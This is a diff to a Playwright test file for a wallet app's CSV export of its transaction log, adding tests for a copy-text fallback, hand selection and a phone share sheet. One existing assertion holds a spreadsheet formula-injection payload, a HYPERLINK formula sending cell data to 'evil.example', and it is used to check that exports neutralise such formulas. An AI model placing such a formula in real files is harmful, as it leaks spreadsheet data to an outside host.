@@ -3,7 +3,9 @@ import type { DataOf } from '@lode/wire'
 import type { Locator, Page } from '@playwright/test'
 import { comeBackLater } from '../browser/background.ts'
 import { everything, fillBooks } from '../browser/books.ts'
+import { copiedText, limitClipboard } from '../browser/clipboard.ts'
 import { withIncoming, withoutPrices } from '../browser/screens.ts'
+import { countDownloads, giveShareSheet, sharedFiles } from '../browser/share-files.ts'
 import { signIn } from '../browser/sign-in.ts'
 import { expect, test } from '../browser/test.ts'
 
@@ -432,7 +434,8 @@ test.describe('the log as a file', () => {
     await expect(linesOf(page).first()).toContainText('+230.00')
     const [download] = await Promise.all([page.waitForEvent('download'), save(page).click()])
     expect(download.suggestedFilename()).toMatch(/^lode-USDT-\d{4}-\d\d-\d\d\.csv$/)
-    await expect(page.getByText('Saved, 230 lines.')).toBeVisible()
+    await expect(page.getByText('230 lines. The download was handed to your browser.')).toBeVisible()
+    await expect(page.getByText('Saved')).toHaveCount(0)
 
     const text = await readFile(await download.path(), 'utf8')
     expect(text.startsWith('\uFEFFTime (UTC),Type,Status,Amount,Fee,Symbol,')).toBe(true)
@@ -440,6 +443,75 @@ test.describe('the log as a file', () => {
     expect(rows.map((row) => row.split(',')[3])).toEqual(Array.from({ length: 230 }, (_, place) => `${230 - place}`))
     expect(rows[0]).toContain(`"'=HYPERLINK(""http://evil.example?""&A1,""Click"")"`)
     expect(text).not.toMatch(/(^|,|\n)"?[=+@]/m)
+  })
+
+  test('is shown as text to copy, where a download came to nothing', async ({
+    page,
+    context,
+    stack,
+    register,
+    enter,
+    toasts,
+  }) => {
+    await context.grantPermissions(['clipboard-read', 'clipboard-write'])
+    const member = await register()
+    await fillBooks(stack, member, many(3))
+    await enter(member)
+    await page.goto('/wallet/detail?symbol=USDT')
+    await expect(linesOf(page)).toHaveCount(3)
+    const [download] = await Promise.all([page.waitForEvent('download'), save(page).click()])
+    await page.getByRole('button', { name: 'Show it here' }).click()
+    const sheet = page.getByRole('dialog', { name: /^lode-USDT-.*\.csv$/ })
+    const text = (await readFile(await download.path(), 'utf8')).replace('\uFEFF', '').replaceAll('\r\n', '\n')
+    await expect(sheet.getByRole('textbox')).toHaveValue(text)
+    await sheet.getByRole('button', { name: 'Copy', exact: true }).click()
+    await expect.poll(() => toasts).toEqual(['Copy successful'])
+    expect(await copiedText(page, context)).toContain('Transfer in,')
+  })
+
+  test('that is shown and cannot be copied is selected, to be copied by hand', async ({
+    page,
+    stack,
+    register,
+    enter,
+  }) => {
+    await limitClipboard(page, { api: 'denied', execCommand: 'fails' })
+    const member = await register()
+    await fillBooks(stack, member, many(3))
+    await enter(member)
+    await page.goto('/wallet/detail?symbol=USDT')
+    await expect(linesOf(page)).toHaveCount(3)
+    await save(page).click()
+    await page.getByRole('button', { name: 'Show it here' }).click()
+    const sheet = page.getByRole('dialog', { name: /^lode-USDT-.*\.csv$/ })
+    await sheet.getByRole('button', { name: 'Copy', exact: true }).click()
+    await expect(sheet.getByRole('status')).toContainText('The text is selected')
+    const field = sheet.getByRole('textbox')
+    await expect(field).toBeFocused()
+    const length = await field.evaluate((one: HTMLTextAreaElement) => one.selectionEnd - one.selectionStart)
+    expect(length).toBe((await field.inputValue()).length)
+  })
+
+  test('goes to the share sheet of a phone; put away, nothing is said to be saved', async ({
+    page,
+    stack,
+    register,
+    enter,
+  }) => {
+    await giveShareSheet(page, 'put away')
+    const member = await register()
+    await fillBooks(stack, member, many(3))
+    await enter(member)
+    await page.goto('/wallet/detail?symbol=USDT')
+    await expect(linesOf(page)).toHaveCount(3)
+    const downloads = countDownloads(page)
+    await save(page).click()
+    await expect
+      .poll(() => sharedFiles(page))
+      .toMatchObject([{ name: expect.stringMatching(/\.csv$/), type: 'text/csv' }])
+    await expect(save(page)).toBeEnabled()
+    await expect(page.getByText(/handed|lines\./i)).toHaveCount(0)
+    expect(downloads()).toBe(0)
   })
 
   test('has what left as a negative number', async ({ page, stack, register, enter }) => {
